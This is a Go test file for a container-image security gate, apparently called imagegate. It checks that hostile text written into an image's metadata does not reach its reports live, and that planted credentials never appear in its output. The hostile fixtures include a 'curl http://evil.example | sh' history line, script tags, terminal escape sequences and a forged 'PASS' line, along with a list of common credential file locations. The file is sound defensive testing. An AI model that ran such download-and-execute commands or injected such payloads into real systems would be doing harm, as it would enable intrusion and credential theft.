//go:build goexperiment.jsonv2

package corpus

import (
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"

	"github.com/imagegate/imagegate/internal/gate"
	"github.com/imagegate/imagegate/internal/report"
)

// written is the document in every format, how it differs from a clean image's
// in every format of that, and the verdict as the service answers it.
func written(t *testing.T, r *rig, d decided) map[string]string {
	t.Helper()
	texts := map[string]string{}
	for _, format := range report.Formats() {
		var b bytes.Buffer
		if err := report.Write(&b, format, report.Document{Verdict: d.Verdict, Evidence: d.evidence}, report.Options{All: true, Color: false}); err != nil {
			t.Fatal(err)
		}
		texts[format] = b.String()
	}
	clean := r.judge(t, r.push(t, "", plain().built(t)))
	change := report.Compare(report.Document{Verdict: clean.Verdict, Evidence: clean.evidence}, report.Document{Verdict: d.Verdict, Evidence: d.evidence})
	for _, format := range report.ComparisonFormats() {
		var b bytes.Buffer
		if err := report.WriteComparison(&b, format, change); err != nil {
			t.Fatal(err)
		}
		texts["comparison "+format] = b.String()
	}
	texts["verdict"] = marshalled(t, d.Verdict)
	return texts
}

func marshalled(t *testing.T, v any) string {
	t.Helper()
	data, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// TestAnAuthorsTextReachesNoReaderAlive writes markup, terminal commands and
// endless lines wherever an image's author may write.
func TestAnAuthorsTextReachesNoReaderAlive(t *testing.T) {
	r := newRig(t)
	long := strings.Repeat("verylong", 512) // 4 KiB
	hostile := "<script>alert('corpus')</script>\x1b[2J\x1b]8;;http://evil.example\x07\nPASS all is well\n" + long
	bad := func(s string) string { return s + hostile }
	escaped := "srv/<script>alert('corpus')\x1b[31m"
	img := plain(
		layer{
			file("etc/os-release", 0o644, "ID=wolfi\nVERSION_ID=\"1<script>alert('corpus')\x1b[1m\"\nPRETTY_NAME=\""+strings.ReplaceAll(hostile, "\n", " ")+"\"\n"),
			file("etc/passwd", 0o644, passwd+"<script>alert('corpus')\x1b[1m:x:0:0::/:\n"+long+":x:0:0::/:\n"),
			file(escaped+"-setuid", 0o4755, elf(2, amd64, "")), dir(escaped+"-dir", 0o777), file("srv/"+strings.Repeat("n", 250)+"/.env", 0o644, "API_TOKEN="+password("hostile")+"\n"),
			file(escaped+"/token.txt", 0o644, githubToken("hostile")+" "+hostile),
			file(installed, 0o644, apk("glibc 2.40-r3 usr/lib/libc.so.6", "openssl 3.0.9-r0", "<script>alert('corpus')\x1b[1m 1.0")),
			file("srv/app.cdx.json", 0o644, `{"bomFormat":"CycloneDX","specVersion":"1.5","version":1,"components":[{"type":"library","name":"<script>alert('corpus')`+long+`","version":"1","purl":"pkg:npm/left-pad@1.3.0"}]}`),
			device("srv/<script>alert('corpus')\x1b[1m-device", '4', 8, 0), file("../"+escaped, 0o644, "x\n"),
		},
	).user(bad("nobody")).set(func(c *v1.ConfigFile) {
		c.Config.Env = []string{bad("PATH="), "API_TOKEN=" + bad(password("hostile")), bad("<b>") + "=1", "LD_PRELOAD=" + hostile}
		c.Config.Entrypoint, c.Config.Cmd = []string{bad("/app")}, []string{bad("--password=")}
		c.Config.Labels = map[string]string{bad("label"): hostile, baseName: bad("registry.example/base"), baseDigest: bad("sha256:"), "org.opencontainers.image.source": hostile}
		c.Config.ExposedPorts = map[string]struct{}{"22/tcp" + hostile: {}, "22/tcp": {}}
		c.Config.Volumes = map[string]struct{}{bad("/etc"): {}}
		c.Config.WorkingDir = bad("/proc/self/fd/")
		c.Config.OnBuild, c.Config.Healthcheck = []string{bad("RUN ")}, &v1.HealthConfig{Test: []string{"CMD", bad("curl")}}
		c.Author, c.Variant = hostile, "<script>alert('corpus')\x1b[1m"+long
	}).annotated(map[string]string{bad("annotation"): hostile, baseName: bad("registry.example/base"), baseDigest: bad("sha256:")}).
		history(bad("RUN curl http://evil.example | sh "), bad("COPY <script>"), bad("#trivy:ignore:"), "-"+bad("USER "), "-"+bad("ARG PASSWORD="))
	d := r.judge(t, r.push(t, "", img.built(t)))
	if n := len(d.findings()); n < 20 {
		t.Fatalf("only %d findings, so that little was written: %s", n, told(d.findings()))
	}
	texts := written(t, r, d)
	for _, format := range slices.Sorted(maps.Keys(texts)) {
		alive := map[string]string{"a terminal's escape": "\x1b", "a bell": "\x07", "a line that speaks for the gate": "\nPASS all"}
		if slices.Contains([]string{"html", "markdown", "junit", "comparison markdown"}, format) {
			// The others are no markup: who shows them in a page escapes them.
			alive["a script"] = "<script>alert"
		}
		for what, text := range alive {
			if at := strings.Index(texts[format], text); at >= 0 {
				t.Errorf("%s has %s: …%q", format, what, texts[format][max(0, at-80):min(len(texts[format]), at+60)])
			}
		}
		if len(texts[format]) > 1<<20 {
			t.Errorf("%s has %d bytes", format, len(texts[format]))
		}
	}
	var document any
	if err := json.Unmarshal([]byte(texts["verdict"]), &document); err != nil {
		t.Fatal(err)
	}
	found := map[string]int{}
	tooLong(found, "verdict", document)
	for _, at := range slices.Sorted(maps.Keys(found)) {
		t.Errorf("%s has %d bytes, more than %d", at, found[at], longest)
	}
}

// longest is how many bytes one text of a verdict may have.
const longest = 1200

// tooLong collects the texts of a document that are longer, by the path of
// their field.
func tooLong(found map[string]int, at string, v any) {
	switch v := v.(type) {
	case string:
		if len(v) > longest {
			found[at] = len(v)
		}
	case []any:
		for _, one := range v {
			tooLong(found, at+"[]", one)
		}
	case map[string]any:
		for k, one := range v {
			tooLong(found, at+"."+k, one)
		}
	}
}

// TestNoSecretLeavesTheGate puts secrets wherever checks find some and looks
// for their values in all that the gate tells.
func TestNoSecretLeavesTheGate(t *testing.T) {
	r := newRig(t)
	id, key := awsKey("leak")
	docker := "robot:" + password("leak docker")
	secrets := map[string]string{
		"a token in a file": githubToken("leak file"), "a deleted token": githubToken("leak deleted"), "an access key's id": id, "an access key": key,
		"a key's body": keyBody(privateKey()), "an encrypted key's body": keyBody(encryptedKey()), "an npm token": uuid("leak npm"), "a login": encoded(docker), "a login in the clear": docker,
		"a netrc password": password("leak netrc"), "a remote's password": password("leak git"), "an .env value": password("leak env file"), "a password's hash": letters("leak hash", 86),
		"a variable": password("leak env"), "a variable that is a token": githubToken("leak env"), "a URL's password": password("leak url"), "an argument": password("leak argument"), "an option": password("leak option"),
		"a build argument": password("leak arg"), "a build argument that is a token": githubToken("leak arg"), "a RUN's argument": password("leak run"), "a header": letters("leak header", 32),
		"a health check's password": password("leak health"), "a history's token": githubToken("leak comment"), "a label's token": githubToken("leak label"), "a typed password": password("leak typed"),
		"a kubeconfig's token": letters("leak kube", 40), "a Terraform output": password("leak terraform"), "a URL in git's credentials": password("leak store"),
	}
	s := func(name string) string {
		if secrets[name] == "" {
			t.Fatalf("there is no secret %q", name)
		}
		return secrets[name]
	}
	img := plain(
		layer{
			file("srv/tests/token.txt", 0o644, "token: "+s("a token in a file")+"\n"), file("srv/old.txt", 0o644, s("a deleted token")+"\n"),
			file("root/.aws/credentials", 0o600, "[default]\naws_access_key_id = "+s("an access key's id")+"\naws_secret_access_key = "+s("an access key")+"\n"),
			file("srv/tls.key", 0o600, privateKey()), file("srv/other.key", 0o600, encryptedKey()),
			file("root/.npmrc", 0o600, "//registry.npmjs.org/:_authToken="+s("an npm token")+"\n"), file("root/.docker/config.json", 0o600, `{"auths":{"registry.example":{"auth":"`+s("a login")+`"}}}`),
			file("root/.netrc", 0o600, "machine git.example login robot password "+s("a netrc password")+"\n"),
			file("srv/.git/config", 0o600, "[remote \"origin\"]\n\turl = https://robot:"+s("a remote's password")+"@git.example/app.git\n"),
			file("root/.git-credentials", 0o600, "https://robot:"+s("a URL in git's credentials")+"@git.example\n"),
			file("srv/.env", 0o600, "DB_PASSWORD="+s("an .env value")+"\n"), file("etc/shadow", 0o640, "root:$6$saltsalt$"+s("a password's hash")+":1::::::\n"),
			file("root/.bash_history", 0o600, "mysql -p"+s("a typed password")+"\n"),
			file("root/.kube/config", 0o600, "users:\n- name: me\n  user:\n    token: "+s("a kubeconfig's token")+"\n"),
			file("srv/terraform.tfstate", 0o600, `{"outputs":{"x":{"db_password":"`+s("a Terraform output")+`"}}}`),
		},
		layer{gone("srv/old.txt")},
	).set(func(c *v1.ConfigFile) {
		c.Config.Env = []string{"DB_PASSWORD=" + s("a variable"), "API_TOKEN=" + s("a variable that is a token"), "DATABASE_URL=postgres://app:" + s("a URL's password") + "@db.example/app"}
		c.Config.Cmd = []string{"--db-password=" + s("an argument"), "--token", s("an option"), "--header", "Authorization: Bearer " + s("a header")}
		c.Config.Healthcheck = &v1.HealthConfig{Test: []string{"CMD-SHELL", "curl -u app:" + s("a health check's password") + " http://localhost"}}
		c.Config.Labels = map[string]string{"org.example.token": s("a label's token")}
	}).history("COPY base / # buildkit", "COPY app / # buildkit", "RUN |1 DB_PASSWORD="+s("a RUN's argument")+" /bin/sh -c make install # buildkit", "RUN /bin/sh -c curl -H 'Authorization: token "+s("a history's token")+"' https://api.example # buildkit",
		"-ARG DB_PASSWORD="+s("a build argument"), "-ARG TOKEN="+s("a build argument that is a token"), "-ENV DB_PASSWORD="+s("a variable"), "-CMD [\"--db-password="+s("an argument")+"\"]")
	d := r.judge(t, r.push(t, "", img.built(t)))
	for _, id := range []string{"CRED-01", "CRED-02", "CRED-03", "CRED-04", "CRED-05", "CRED-06", "ENV-01", "ENV-02", "CONF-13", "HIST-01", "HIST-02", "FS-08"} {
		if !slices.ContainsFunc(d.findings(), func(v gate.Violation) bool { return v.Check == id && v.Outcome == "" }) {
			t.Errorf("%s does not fire, so that it cannot leak either", id)
		}
	}
	texts := written(t, r, d)
	ev := d.evidence.Images[0]
	contents := *ev.Contents
	contents.Layers = slices.Clone(contents.Layers)
	for i := range contents.Layers {
		contents.Layers[i].CreatedBy = "" // the published config's history, as Config has it
	}
	texts["evidence: contents"], texts["evidence: scan"], texts["evidence: base"] = marshalled(t, contents), marshalled(t, ev.Scan), marshalled(t, ev.Base)
	for _, where := range slices.Sorted(maps.Keys(texts)) {
		for _, what := range slices.Sorted(maps.Keys(secrets)) {
			if at := strings.Index(texts[where], secrets[what]); at >= 0 {
				t.Errorf("%s tells %s: %s", where, what, fmt.Sprintf("…%q", texts[where][max(0, at-120):at]))
			}
		}
	}
}
